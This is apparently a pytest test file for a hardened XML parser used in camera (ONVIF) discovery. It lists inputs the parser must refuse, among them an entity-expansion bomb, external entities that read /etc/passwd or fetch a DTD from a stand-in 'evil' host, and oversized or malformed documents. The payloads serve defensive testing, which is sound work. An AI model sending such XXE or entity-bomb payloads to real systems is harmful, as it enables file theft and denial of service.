"""XML from other hosts: what is read, and what is refused before it costs anything."""

import pytest

from external_discovery.discovery.onvif.xml import XmlRefused, parse

BOMB = (
    b'<!DOCTYPE a [<!ENTITY b "xx"><!ENTITY c "'
    + b"&b;" * 100
    + b'"><!ENTITY d "'
    + b"&c;" * 100
    + b'">]><a>&d;</a>'
)


@pytest.mark.parametrize(
    "document",
    [
        BOMB,
        b'<!DOCTYPE a SYSTEM "http://203.0.113.7/evil.dtd"><a/>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://203.0.113.7/p">%p;]><a/>',
        b"<!DOCTYPE a><a/>",
        '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16"),
        b"<a>&unknown;</a>",
        b"<a>&#0;</a>",
        b"",
        b"\0\0",
        b"garbage",
        b"<a>",
        b"<a/><b/>",
        b"<a><b></a></b>",
        b"<x:a/>",
        b'<?xml version="1.0" encoding="no-such"?><a/>',
        b'<?xml version="1.0" encoding="utf-7"?><a/>',
        b"<a>\xff</a>",
        b"<a>" * 65 + b"</a>" * 65,
        b"<a>" + b"<b/>" * 20_001 + b"</a>",
        b"<a>" + b" " * (512 << 10) + b"</a>",
    ],
)
def test_what_is_refused(document: bytes) -> None:
    with pytest.raises(XmlRefused) as caught:
        parse(document)
    assert "passwd" not in str(caught.value)


def test_depth_and_number_at_their_limits() -> None:
    assert parse(b"<a>" * 64 + b"</a>" * 64).name == "a"
    assert len(parse(b"<a>" + b"<b/>" * 19_999 + b"</a>").children) == 19_999


def test_namespaces_do_not_matter_because_cameras_use_wrong_ones() -> None:
    root = parse(
        b'<x:a xmlns:x="urn:x" xmlns="urn:y" x:k="1"><b> one <c>two</c> three </b><x:b>four</x:b></x:a>'
    )
    assert (root.name, root.attributes) == ("a", {"k": "1"})
    assert root.value("b") == "one  three"
    assert root.value("b", "c") == "two"
    assert [each.text for each in root.all("b")] == ["one  three", "four"]
    assert root.value("b", "d") == ""
    assert root.find() is root


@pytest.mark.parametrize("around", [(b"\r\n\r\n", b""), (b"", b"\0\0\0"), (b"\0 ", b"\n\0")])
def test_cameras_that_send_more_than_the_document(around: tuple[bytes, bytes]) -> None:
    document = b'<?xml version="1.0"?><a>&lt;&#228;</a>'
    assert parse(around[0] + document + around[1]).text == "<\u00e4"


def test_other_encodings() -> None:
    assert (
        parse('<?xml version="1.0" encoding="iso-8859-1"?><a>\u00e4</a>'.encode("latin-1")).text == "\u00e4"
    )
    assert parse("<a>\u00e4</a>".encode("utf-16")).text == "\u00e4"
